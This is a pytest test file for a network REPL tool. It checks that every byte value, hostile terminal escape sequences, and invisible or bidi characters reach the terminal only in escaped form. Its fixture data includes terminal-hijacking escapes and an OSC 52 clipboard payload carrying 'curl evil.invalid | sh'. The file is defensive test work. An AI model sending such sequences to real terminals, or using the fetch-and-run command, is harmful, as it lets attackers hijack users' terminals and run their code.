"""Hostile bytes: whatever a peer (or a DNS name, or a variable) holds, only printable text,
"\\n" and "\\t" reach the terminal.

The CLI runs in a subprocess against a loopback peer that sends every byte
value and known-dangerous terminal sequences; its raw stdout/stderr bytes
are checked with netrepl.base.escape.is_terminal_safe (undecodable bytes become
lone surrogates, which it rejects too). Each test also checks that the
peer's bytes did show up, escaped, so a test cannot pass by printing nothing.
"""

from __future__ import annotations

import base64
import io
import os
import re
import socket
import subprocess
import sys
import threading

import pytest

from conftest import ROOT
from netrepl.commands import REGISTRY
from netrepl.render.escape import escape_text, escape_bytes, hexdump, is_terminal_safe
from netrepl.core.executor import Executor
from netrepl.core.recorder import Recorder
from netrepl.core.results import Endpoint

DANGEROUS = {
    "CSI cursor moves": b"\x1b[10;10H\x1b[5A\x1b[3C\x1b[H",
    "CSI erase / clear screen": b"\x1b[2J\x1b[3J\x1b[K\x1b[2K",
    "RIS full reset": b"\x1bc",
    "OSC 0 title (BEL)": b"\x1b]0;pwned title\x07",
    "OSC 2 title (ST)": b"\x1b]2;pwned title\x1b\\",
    "OSC 52 clipboard": b"\x1b]52;c;" + base64.b64encode(b"curl evil.invalid | sh\n") + b"\x07",
    "OSC 8 hyperlink": b"\x1b]8;;http://evil.invalid/\x1b\\harmless text\x1b]8;;\x1b\\",
    "C1 CSI raw 0x9b": b"\x9b2J\x9b31m",
    "C1 CSI UTF-8 encoded": "\u009b2J\u009b31m\u009d0;title\u009c".encode(),
    "C1 OSC/DCS/ST raw": b"\x9d0;title\x9c\x90q\x9c",
    "DEC private modes": b"\x1b[?1049h\x1b[?25l\x1b[?1000h\x1b[?2004h\x1b[?1h",
    "DSR cursor position query": b"\x1b[6n",
    "DA primary query": b"\x1b[c\x1b[0c",
    "DA secondary query": b"\x1b[>c",
    "DECID query": b"\x1bZ",
    "window report query": b"\x1b[21t\x1b[14t",
    "DCS DECRQSS query": b"\x1bP$qm\x1b\\",
    "DCS tmux passthrough": b"\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\",
    "carriage return overwrite": b"ok\rFAKE\r\x1b[2Knetrepl> ",
    "backspaces and DEL": b"abc\x08\x08\x08xyz\x7f",
    "bidi override": "\u202eexe.txt\u202c".encode(),
    "zero width and BOM": "a\u200bb\ufeffc\u2028d".encode(),
    "NUL and bell": b"\x00\x07\x00",
    "invalid UTF-8": b"\xff\xfe\xc0\xaf\xed\xa0\x80",
}
ALL_BYTES = bytes(range(256))
PAYLOAD = ALL_BYTES + b"\n" + b"\n".join(DANGEROUS.values()) + b"\n"
HUGE = 16 << 20  # one line, no newline


def cli(*args, timeout=300):
    """Run the CLI; (exit status, stdout, stderr) as str with undecodable bytes kept as surrogates."""
    env = dict(os.environ)
    env.pop("PYTHONWARNINGS", None)
    p = subprocess.run([sys.executable, "-m", "netrepl", *args], capture_output=True, timeout=timeout,
                       env=env, cwd=ROOT, stdin=subprocess.DEVNULL)
    return p.returncode, p.stdout.decode("utf-8", "surrogateescape"), p.stderr.decode("utf-8", "surrogateescape")


def assert_safe(*texts: str) -> None:
    for text in texts:
        assert "Traceback" not in text, text[-2000:]
        if not is_terminal_safe(text):
            bad = sorted({c for c in text if not is_terminal_safe(c)})
            pytest.fail(f"unsafe characters reached the terminal: {bad!r}")


def sender(data: bytes, linger: bool = False):
    """A peer that sends `data`, then closes (or, with linger, waits for the client to leave)."""
    def handler(conn):
        conn.sendall(data)
        if linger:
            while conn.recv(65536):
                pass
        conn.close()
    return handler


# ----- the views --------------------------------------------------------------------

def test_every_byte_and_dangerous_sequences_in_the_text_view(tcp_server):
    server = tcp_server(sender(PAYLOAD))
    code, out, err = cli("-c", f"connect 127.0.0.1 {server.port}; recv all")
    assert code == 0, err
    assert_safe(out, err)
    assert escape_bytes(PAYLOAD) in out  # everything shown, escaped
    for shown in ("\\x1b[2J", "\\x1b]52;c;", "\\u009b2J", "\\x9b2J", "\\x1b[6n", "\\x1bZ", "\\u202e", "\\xff"):
        assert shown in out, shown


def test_single_recvs_in_the_text_view(tcp_server):
    server = tcp_server(sender(PAYLOAD))
    code, out, err = cli("-c", f"connect 127.0.0.1 {server.port}; recv 7; recv 64; recv 65536; recv; recv")
    assert code == 0, err
    assert_safe(out, err)
    assert "\\x00\\x01\\x02\\x03\\x04\\x05\\x06\n" in out
    assert "end of stream" in out


def test_every_byte_and_dangerous_sequences_in_the_hex_view(tcp_server):
    server = tcp_server(sender(PAYLOAD))
    code, out, err = cli("-c", f"connect 127.0.0.1 {server.port}; set display hex; recv all")
    assert code == 0, err
    assert_safe(out, err)
    assert hexdump(PAYLOAD) in out
    assert "00000000  00 01 02 03 04 05 06 07  08 09 0a 0b 0c 0d 0e 0f  |................|" in out


def test_recv_line(tcp_server):
    server = tcp_server(sender(PAYLOAD))
    lines = PAYLOAD.count(b"\n")
    code, out, err = cli("-c", f"connect 127.0.0.1 {server.port}" + "; recv line" * (lines + 1))
    assert code == 0, err
    assert_safe(out, err)
    assert out.count("received a line of") == lines
    assert "end of stream: the peer closed its side (readline returned no data)" in out
    assert escape_bytes(DANGEROUS["OSC 52 clipboard"] + b"\n") in out


def test_recvfrom(tmp_path):
    peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    peer.bind(("127.0.0.1", 0))
    peer.settimeout(60)

    def answer():
        try:
            _, address = peer.recvfrom(100)
            peer.sendto(PAYLOAD, address)
        except OSError:
            pass

    thread = threading.Thread(target=answer, daemon=True)
    thread.start()
    port = peer.getsockname()[1]
    try:
        code, out, err = cli("-c", f"timeout 30; sendto 127.0.0.1 {port} hi; recvfrom 65536")
    finally:
        peer.close()
    assert code == 0, err
    assert_safe(out, err)
    assert f"received {len(PAYLOAD)} bytes from 127.0.0.1:{port}" in out
    assert escape_bytes(PAYLOAD) in out


@pytest.mark.parametrize("pattern", ["NEVER-SENT", "/NEVER[-]SENT/"])
@pytest.mark.parametrize("ending", ["eof", "timeout"])
def test_expect_failure_messages_quote_peer_bytes_safely(tcp_server, pattern, ending):
    server = tcp_server(sender(PAYLOAD, linger=ending == "timeout"))
    code, out, err = cli("-c", f"timeout 1; connect 127.0.0.1 {server.port}; expect {pattern}")
    assert code == 1
    assert_safe(out, err)
    why = "end of stream came first" if ending == "eof" else "nothing matched within 1 s"
    assert f"error: expect: expectation not met: expected '{pattern}' but {why}; unmatched data received: " in out
    # The peer's last bytes are in the message, quoted and escaped like any peer text.
    assert "'" + escape_text(PAYLOAD[-200:].decode("utf-8", "surrogateescape")) + "'" in out


def test_must_fail_output(tcp_server):
    server = tcp_server(sender(PAYLOAD, linger=True))
    code, out, err = cli("-k", "-c", f"timeout 1; connect 127.0.0.1 {server.port}; must-fail expect expect NOPE; "
                                     "must-fail address expect NOPE; must-fail timeout recv 1")
    assert code == 1  # the second must-fail got the wrong kind
    assert_safe(out, err)
    assert "failed as expected (expect): expect: expectation not met: expected 'NOPE' but" in out
    assert "expected a failure of kind address, got expect (expected 'NOPE' but" in out
    assert "\\x1b" in out


def test_lab_server_listing():
    code, out, err = cli("-c", "serve echo 0; serve chargen 0; serve echo 0 udp; serve")
    assert code == 0, err
    assert_safe(out, err)
    listing = out.rsplit("netrepl> serve\n", 1)[1]
    assert [line.split(" 127.0.0.1:")[0] for line in listing.splitlines()] == ["echo tcp", "chargen tcp", "echo udp"]


def test_error_messages_with_user_and_dns_chosen_text():
    # A variable can carry control characters a line cannot: they reach host names, paths and messages.
    evil = "\x1b]0;title\x07\x1b[2J\x9b31m\u202e"
    code, out, err = cli("-k", "-D", f"v={evil}", "-D", f"f=/nonexistent-dir/{evil}", "-c",
                         "print $v; connect $v.invalid 80; record $f; recv all > $f; set var w $v; "
                         "must-fail address connect ${w}.invalid 80; must-fail timeout connect $v.invalid 80; "
                         "lookup 65535 udp")
    assert_safe(out, err)
    assert code == 1
    assert "\\x1b]0;title\\x07\\x1b[2J\\u009b31m\\u202e" in out  # print, set var, record and help quote it
    assert "error: connect: address-related error (socket.gaierror)" in out
    code, out, err = cli("-D", f"v={evil}", "-c", "help $v")  # a script problem quotes it too
    assert code == 2 and out == ""
    assert_safe(err)
    assert "no command '\\x1b]0;title\\x07\\x1b[2J" in err


def test_control_characters_in_a_command_line_are_rejected_before_anything_runs(tmp_path):
    # A host name argument cannot carry escapes: the parser refuses control characters in the line.
    for line in ["connect \x1b[2J.invalid 80", "send \x1b]52;c;aGk=\x07", "print \x9b2J", "connect a\x00b.invalid 1"]:
        if "\x00" not in line:  # argv cannot carry a NUL; the file below can
            code, out, err = cli("-c", line)
            assert code == 2, line
            assert_safe(out, err)
            assert "control character" in err and "write it as an escape such as \\x1b" in err
            assert out == ""
        path = tmp_path / "evil.nrs"
        path.write_bytes(b"print ok\n" + line.encode("utf-8", "surrogateescape") + b"\n")
        code, out, err = cli(str(path))
        assert (code, out) == (2, "")
        assert_safe(err)
        assert f"{path}:2:" in err and "control character" in err
    code, out, err = cli("-c", "print \u202eevil\u202c; print a\u200bb")
    assert code == 0
    assert_safe(out, err)
    assert "\\u202eevil\\u202c" in out


def test_script_problems_quote_hostile_file_content(tmp_path):
    path = tmp_path / "bytes.nrs"
    path.write_bytes(b"pr\x1b[2Jint x\nconnect \xff\xfe 80\n\x9b31m\nsend \xc2\x9b\n" + ALL_BYTES + b"\n")
    code, out, err = cli(str(path))
    assert code == 2
    assert_safe(out, err)
    assert f"{path}:1:" in err and f"{path}:2:" in err and "invalid UTF-8" in err


# ----- the shell and its toolbar ----------------------------------------------------------

def test_shell_output_and_bottom_toolbar(tcp_server, tmp_path):
    from prompt_toolkit.application import create_app_session
    from prompt_toolkit.history import InMemoryHistory
    from prompt_toolkit.input import create_pipe_input
    from prompt_toolkit.output import DummyOutput

    from netrepl.shell import Shell, toolbar_text

    server = tcp_server(sender(PAYLOAD, linger=True))
    ex = Executor(REGISTRY)
    ex.variables["f"] = str(tmp_path / "rec\x1b]0;t\x07\x9b2J.nrs")
    shown = io.StringIO()
    with create_pipe_input() as pipe, create_app_session(input=pipe, output=DummyOutput()):
        shell = Shell(ex, history=InMemoryHistory(), input=pipe, output=DummyOutput(), out=shown)
        pipe.send_text(f"record $f\rconnect 127.0.0.1 {server.port}\rtimeout 1\rrecv 65536\rset display hex\r"
                       "recv 16\rexpect NOPE\r")
        for _ in range(7):
            assert shell.one()
        bar = "".join(text for _, text in toolbar_text(ex))
        ex.finish()
    out = shown.getvalue()
    assert_safe(out, bar)
    assert "received" in out and "\\x00\\x01\\x02\\x03" in out  # the text view of the first recv
    assert "received" in out and "expected 'NOPE'" in out
    assert "\n" not in bar and "\t" not in bar
    assert "recording to" in bar and "\\x1b]0;t\\x07\\u009b2J.nrs" in bar
    assert f"127.0.0.1:{server.port}" in bar


def test_toolbar_with_hostile_endpoint_and_state_text():
    from netrepl.shell import toolbar_text

    ex = Executor(REGISTRY)
    s = ex.session
    s.local = Endpoint("\x1b[2J", 1)
    s.peer = Endpoint("evil\x1b]0;t\x07\u202e\n", 2)
    bar = "".join(text for _, text in toolbar_text(ex))
    assert_safe(bar)
    assert "\n" not in bar and "\\x1b[2J:1 -> evil\\x1b]0;t\\x07\\u202e\\n:2" in bar
    ex.recorder = Recorder(os.devnull)
    ex.recorder.path = "/tmp/\x1b[6n\tx"
    bar = "".join(text for _, text in toolbar_text(ex))
    assert_safe(bar)
    assert "recording to /tmp/\\x1b[6n\\tx" in bar
    ex.recorder.close()


# ----- long lines and huge single receives ---------------------------------------------------

def huge_line() -> bytes:
    unit = b"".join(DANGEROUS.values()).replace(b"\n", b"") + bytes(range(11, 256))
    return (unit * (HUGE // len(unit) + 1))[:HUGE]


@pytest.mark.parametrize("display", ["text", "hex"])
def test_a_16_mib_line_with_no_newline_renders_completely(tcp_server, display):
    data = huge_line()
    server = tcp_server(sender(data))
    code, out, err = cli("-c", f"connect 127.0.0.1 {server.port}; set display {display}; recv all", timeout=600)
    assert code == 0, err
    assert f"received {HUGE} bytes in total until end of stream" in out
    assert_safe(out, err)
    if display == "hex":
        assert out.count("\n") >= HUGE // 16
        assert f"{HUGE - 16:08x}  " in out
        assert hexdump(data[-4096:], HUGE - 4096) in out
    else:
        assert escape_bytes(data) in out


def test_a_16_mib_line_through_recv_line_a_huge_single_recv_and_expect(tcp_server):
    data = huge_line()
    server = tcp_server(sender(data))
    code, out, err = cli("-k", "-c", f"timeout 30; connect 127.0.0.1 {server.port}; recv line; recv 16777216; "
                                     "expect NEVER-SENT; info", timeout=600)
    assert code == 1  # the expect
    assert_safe(out, err)
    assert "received 65536 bytes with no newline yet (line limit)" in out
    assert re.search(r"^received \d+ bytes  \[tcp connected\]$", out, re.M)  # one recv, whatever it got
    assert "expected 'NEVER-SENT' but end of stream came first; unmatched data received: " in out
    assert "  received  16777216 bytes" in out


# ----- invisible code points ------------------------------------------------------------------

# Each draws nothing (or a blank), so a name or banner holding one reads as something it is not.
INVISIBLE = "\u034f\u115f\u3164\uffa0\ufe0f\u2800\U0001d159"
INVISIBLE_SHOWN = "\\u034f\\u115f\\u3164\\uffa0\\ufe0f\\u2800\\U0001d159"


def test_invisible_code_points_in_peer_data_messages_and_file_names(tcp_server, tmp_path):
    server = tcp_server(sender(b"[" + INVISIBLE.encode() + b"]\n" + "ok\u2800\ufe0f".encode()))
    missing = tmp_path / "no-such-dir" / f"x{INVISIBLE}y.nrs"
    script = tmp_path / f"s{INVISIBLE}t.nrs"
    script.write_text("print sourced\n")
    code, out, err = cli("-k", "-D", f"v={INVISIBLE}", "-D", f"f={missing}", "-c",
                         f"print $v; connect $v.invalid 80; must-fail address connect x$v.invalid 80; record $f; "
                         f"source {script}; connect 127.0.0.1 {server.port}; recv all")
    assert code == 1  # the connect and the record
    assert_safe(out, err)
    assert f"[{INVISIBLE_SHOWN}]\nok\\u2800\\ufe0f" in out  # peer data
    assert f"\n{INVISIBLE_SHOWN}\n" in out  # print
    assert f"(getaddrinfo '{INVISIBLE_SHOWN}.invalid')" in out  # an error message quoting a host name
    assert f"(getaddrinfo 'x{INVISIBLE_SHOWN}.invalid')" in out  # and one under must-fail
    assert f"no-such-dir/x{INVISIBLE_SHOWN}y.nrs: No such file or directory" in out  # a file name
    assert f"netrepl> source {tmp_path}/s{INVISIBLE_SHOWN}t.nrs\n" in out
    code, out, err = cli("-D", f"v={INVISIBLE}", "-c", f"source {missing}; lookup $v")  # script problems
    assert code == 2 and out == ""
    assert_safe(err)
    assert f"cannot read {missing.parent}/x{INVISIBLE_SHOWN}y.nrs" in err
    assert f"got '{INVISIBLE_SHOWN}'" in err
